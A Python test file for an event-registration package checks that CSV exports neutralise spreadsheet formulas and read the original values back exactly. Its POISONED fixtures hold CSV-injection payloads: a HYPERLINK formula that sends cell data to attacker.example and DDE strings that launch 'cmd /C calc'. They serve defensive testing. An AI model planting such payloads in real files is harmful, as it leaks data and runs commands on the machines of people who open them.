"""Spreadsheet formulas in the CSV files meant for people: neutralised, and read back."""

from __future__ import annotations

import csv
import datetime as dt
import io

import attrs
from hypothesis import given
from hypothesis import strategies as st

from ran_events._spreadsheet import FORMULA_STARTS, neutralise, restore
from ran_events.examples import synthetic_applicants, webinar
from ran_events.intake import csv_text, read_csv
from ran_events.selection import (
    SelectionResult,
    decisions_csv_text,
    read_decisions_csv,
    select,
)

NOW = dt.datetime(2023, 9, 7, 9, 0, tzinfo=dt.UTC)
POISONED = (
    '=HYPERLINK("https://attacker.example/?"&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
)


@given(st.text())
def test_restore_undoes_neutralise(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert written[:1] not in FORMULA_STARTS


def test_text_that_starts_no_formula_is_left_alone() -> None:
    for text in ("Anna Peeters", "O'Brien", "'quoted'", "", "r0001", "3"):
        assert neutralise(text) == text
        assert restore(text) == text


def _poisoned_result() -> SelectionResult:
    event = webinar()
    pool = synthetic_applicants(300, seed=7, event=event)
    pool[0] = attrs.evolve(
        pool[0], registrant=attrs.evolve(pool[0].registrant, email="=1+1@example.org")
    )
    for i, name in enumerate(POISONED, start=1):
        pool[i] = attrs.evolve(pool[i], registrant=attrs.evolve(pool[i].registrant, name=name))
    pool[len(POISONED) + 1] = attrs.evolve(pool[len(POISONED) + 1], id="-r17")
    return select(event, pool, now=NOW)


def test_decisions_csv_starts_no_cell_with_a_formula_and_reads_back_exactly() -> None:
    result = _poisoned_result()
    text = decisions_csv_text(result)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]
    assert "'=1+1@example.org" in cells
    assert "'-r17" in cells
    read = read_decisions_csv(io.StringIO(text))
    assert read.ok
    people = {r.id: r.registrant for r in result.registrations}
    for row in read:
        assert row.email == people[row.registration_id].email
        assert row.name == people[row.registration_id].name.strip()
    assert "-r17" in {row.registration_id for row in read}
    assert {row.name for row in read} >= {p.strip() for p in POISONED}


def test_export_csv_keeps_exact_values_unless_asked_to_neutralise() -> None:
    event = webinar()
    pool = synthetic_applicants(3, seed=3, event=event)
    pool[1] = attrs.evolve(pool[1], registrant=attrs.evolve(pool[1].registrant, name=POISONED[0]))
    exchanged = csv_text(pool)
    assert f'"{POISONED[0].replace(chr(34), chr(34) * 2)}"' in exchanged
    assert list(read_csv(io.StringIO(exchanged), event).accepted) == pool
    for_people = csv_text(pool, neutralise_formulas=True)
    cells = [cell for row in csv.reader(io.StringIO(for_people)) for cell in row]
    assert "'" + POISONED[0] in cells
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]
